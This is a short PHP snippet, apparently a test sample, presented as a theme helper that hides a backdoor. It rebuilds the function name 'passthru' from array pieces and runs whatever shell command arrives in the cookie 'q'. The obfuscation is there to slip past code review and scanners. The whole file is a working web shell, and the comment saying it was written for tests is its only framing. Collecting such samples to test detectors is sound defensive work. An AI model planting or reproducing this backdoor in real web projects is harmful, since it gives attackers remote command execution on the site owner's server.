<?php
// a one-line backdoor hidden in a theme helper: the runner's name is kept as pieces of an
// array and glued back when called (written for the tests, never run)
$parts = array('pas', 'st', 'hru');
$keys = ['lang' => 'en', 'go' => 'q'];
if (!empty($_COOKIE[$keys['go']])) {
    call_user_func(implode('', $parts), $_COOKIE[$keys['go']]);
}
